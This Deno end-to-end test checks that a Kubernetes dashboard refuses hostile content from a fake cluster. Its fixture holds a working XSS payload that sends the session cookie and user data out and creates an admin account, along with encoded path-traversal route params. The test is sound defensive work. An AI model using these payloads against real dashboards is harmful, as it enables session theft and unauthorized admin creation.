// End-to-end, in a real browser (headless Chromium via playwright-core), attacks through the
// dashboard's Kubernetes proxy and page routes by a hostile cluster: a fake API server (HTTPS,
// added as a kubeconfig cluster) serves an HTML page with an inline script and a same-origin
// `<script src>` (itself proxied). A signed-in admin who opens the proxied URL must not run either:
// no request from them reaches the dashboard API or the cluster, no user is created. The page
// routes must refuse a resource address whose params decode to a path outside the API
// (`v1%2F..%2F..%2Flogs%2Fsyslog`) before any request reaches the cluster.
//
// Needs /usr/bin/chromium (Debian package); no Kubernetes control plane.
import assert from "node:assert/strict";
import { addKubeconfigCluster, withDashboardAndBrowser } from "./harness.ts";
import { startFakeApiServer } from "../../testing/fake_apiserver.ts";

const ADMIN_PASSWORD = "proxy-content-admin-password";

Deno.test({
  name: "proxied HTML never runs as the dashboard; route params never leave the API",
  sanitizeOps: false,
  sanitizeResources: false,
  async fn(t) {
    let clusterId = "";
    const k8s = () => `/api/clusters/${clusterId}/k8s`;
    const attack = () =>
      `(function () {
  var via = document.currentScript && document.currentScript.src ? "src" : "inline";
  document.title = "pwned-" + via;
  fetch("/api/auth/me").then(function (r) { return r.text(); }).then(function (me) {
    fetch("${k8s()}/api/pwned?via=" + via + "&me=" + encodeURIComponent(me) +
      "&cookie=" + encodeURIComponent(document.cookie));
  });
  fetch("/api/users", {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ username: "pwned-" + via, password: "pwned-password-1", role: "admin" }),
  });
})();`;
    const fake = await startFakeApiServer((_req, url) => {
      if (url.pathname === "/api/evil") {
        return new Response(
          `<!doctype html><html><head><title>evil</title></head><body><h1>hello</h1>` +
            `<script>${attack()}</script><script src="${k8s()}/api/evil.js"></script>` +
            `</body></html>`,
          { headers: { "content-type": "text/html; charset=utf-8" } },
        );
      }
      if (url.pathname === "/api/evil-untyped") {
        return new Response(
          new TextEncoder().encode(
            `<html><body><script src="${k8s()}/api/evil.js"></script></body></html>`,
          ),
        );
      }
      if (url.pathname === "/api/evil.js") {
        return new Response(attack(), { headers: { "content-type": "application/javascript" } });
      }
      return null;
    });
    try {
      await withDashboardAndBrowser(ADMIN_PASSWORD, async (dash, browser) => {
        const base = dash.url;
        const context = await browser.newContext({ acceptDownloads: true });
        context.setDefaultTimeout(15_000);
        // Signs the context in: users() below reads /api/users with its session cookie.
        clusterId = await addKubeconfigCluster(context, base, ADMIN_PASSWORD, {
          name: "hostile",
          kubeconfig: fake.kubeconfig,
        });
        const page = await context.newPage();

        const pwned = () => fake.seen.filter((s) => s.path === "/api/pwned");
        const users = async () => {
          const r = await context.request.get(`${base}/api/users`);
          return (await r.json() as { items: { username: string }[] }).items.map((u) => u.username);
        };

        await t.step("the proxied HTML is served as a sandboxed download", async () => {
          for (const path of ["/api/evil", "/api/evil-untyped", "/api/evil.js"]) {
            const r = await context.request.get(`${base}${k8s()}${path}`);
            const h = r.headers();
            assert.equal(r.status(), 200, path);
            assert.equal(h["content-security-policy"], "sandbox", path);
            assert.equal(h["content-disposition"], "attachment", path);
            assert.equal(h["x-content-type-options"], "nosniff", path);
          }
          const json = await context.request.get(`${base}${k8s()}/version`);
          assert.equal(json.headers()["x-content-type-options"], "nosniff");
          assert.match(json.headers()["content-security-policy"], /script-src 'nonce-/);
          assert.equal(json.headers()["content-disposition"], undefined);
        });

        for (const path of ["/api/evil", "/api/evil-untyped"]) {
          await t.step(`a signed-in admin opening ${path} runs no script`, async () => {
            // The download starts instead of a page: goto then rejects ("Download is starting").
            await page.goto(`${base}${k8s()}${path}`).catch(() => null);
            await page.waitForTimeout(1500);
            assert.doesNotMatch(await page.title().catch(() => ""), /pwned/);
            assert.deepEqual(
              pwned().map((s) => s.search),
              [],
              "no script reached the cluster with the user's session",
            );
            const names = await users();
            assert(!names.some((n) => n.startsWith("pwned")), `users: ${names.join(", ")}`);
          });
        }

        await t.step("route params that decode outside the API are refused", async () => {
          const attacks = [
            "/r/core/v1%2F..%2F..%2Flogs%2Fsyslog/pods",
            "/r/core/v1/pods%2F..%2F..%2F..%2Fmetrics",
            "/r/apps%2F..%2F..%2Fdebug/v1/deployments",
            "/r/core/v1/pods/default/..%2F..%2F..%2F..%2Fhealthz",
            "/r/core/v1/pods/..%2F..%2F..%2F..%2Flogs/x",
            "/r/core/v1/pods/default/x%25y",
            "/r/core/v1%00/pods",
          ];
          const before = fake.seen.length;
          const statuses: string[] = [];
          for (const a of attacks) {
            const res = await page.goto(`${base}/clusters/${clusterId}${a}`);
            const shown = await page.getByText("Invalid address").count();
            statuses.push(`${a}: ${res?.status()}${shown ? " Invalid address" : ""}`);
          }
          // First what reached the cluster (the attack), then what the user was shown.
          const reached = fake.seen.slice(before).map((s) => s.path);
          assert.deepEqual(
            reached.filter((p) =>
              !/^\/(api|apis)(\/|$)/.test(p) || /syslog|metrics|healthz/.test(p)
            ),
            [],
            `paths that reached the cluster: ${reached.join(", ")}`,
          );
          assert.deepEqual(statuses, attacks.map((a) => `${a}: 400 Invalid address`));
          // A valid address still reaches the (fake) cluster's discovery.
          const ok = await page.goto(`${base}/clusters/${clusterId}/r/core/v1/pods`);
          assert(ok && ok.status() !== 400);
          assert(fake.seen.some((s) => s.path === "/api/v1"), "valid params are used");
        });
        await context.close();
      });
    } finally {
      await fake.stop();
    }
  },
});
